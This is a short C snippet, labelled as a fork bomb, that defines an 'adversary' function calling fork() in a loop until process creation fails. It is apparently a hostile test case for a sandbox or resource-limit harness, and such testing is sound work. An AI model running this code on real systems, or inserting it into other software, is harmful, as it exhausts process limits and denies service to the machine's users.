/* A fork bomb in context_init: every process forks until it cannot. */
#include <unistd.h>

static void adversary(void)
{
    for (int i = 0; i < 100000; i++)
        if (fork() < 0)
            break;
}
